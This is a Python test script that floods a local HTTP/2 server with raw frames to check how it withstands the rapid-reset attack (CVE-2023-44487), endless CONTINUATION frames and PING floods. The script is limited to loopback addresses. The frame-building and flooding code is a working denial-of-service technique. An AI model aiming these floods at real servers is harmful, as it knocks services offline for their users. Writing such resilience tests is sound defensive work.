#!/usr/bin/env python3
"""HTTP/2 abuse for Rampart's tests, from the Python standard library only (ssl + raw frames).

  h2flood.py PORT rapid-reset [COUNT] [SOURCE]   HEADERS then RST_STREAM, COUNT times (CVE-2023-44487)
  h2flood.py PORT continuation [COUNT]  one HEADERS without END_HEADERS, then COUNT CONTINUATION frames
  h2flood.py PORT ping [COUNT]          COUNT PING frames

Loopback only. Prints what the server did: "GOAWAY <error code>" and/or "CLOSED" (the connection
ended), or "OPEN" if it was still open after the flood; plus the frames sent before that.
"""
import socket
import ssl
import struct
import sys
import time


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9


def request_block(host):
    # HPACK: :method GET, :scheme https, :path /, :authority (literal, indexed name 1).
    return bytes([0x82, 0x87, 0x84, 0x41, len(host)]) + host.encode()


def main():
    port = int(sys.argv[1])
    mode = sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
    source = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1"
    if not source.startswith("127."):
        sys.exit("loopback sources only")
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0))
    s = ctx.wrap_socket(raw, server_hostname="localhost")
    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    sent = 0
    try:
        if mode == "rapid-reset":
            for i in range(count):
                sid = 2 * i + 1
                s.sendall(frame(HEADERS, 0x4 | 0x1, sid, request_block("localhost")) + frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
                sent += 1
        elif mode == "continuation":
            s.sendall(frame(HEADERS, 0x1, 1, request_block("localhost")))
            for i in range(count):
                s.sendall(frame(CONTINUATION, 0, 1, b"\x40\x01x\x01y"))  # literal header x: y, never ending
                sent += 1
        elif mode == "ping":
            for i in range(count):
                s.sendall(frame(PING, 0, 0, struct.pack(">Q", i)))
                sent += 1
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
        pass
    print(f"SENT {sent}")
    # Read what the server sends back until it closes (bounded: 5 s).
    buf = b""
    deadline = time.time() + 5
    goaway = None
    closed = False
    s.settimeout(1)
    while time.time() < deadline:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            continue
        except (ConnectionResetError, ssl.SSLError, OSError):
            closed = True
            break
        if not chunk:
            closed = True
            break
        buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            kind = buf[3]
            payload = buf[9:9 + length]
            buf = buf[9 + length:]
            if kind == GOAWAY and len(payload) >= 8:
                goaway = struct.unpack(">I", payload[4:8])[0]
    if goaway is not None:
        print(f"GOAWAY {goaway}")
    print("CLOSED" if closed else "OPEN")


if __name__ == "__main__":
    main()
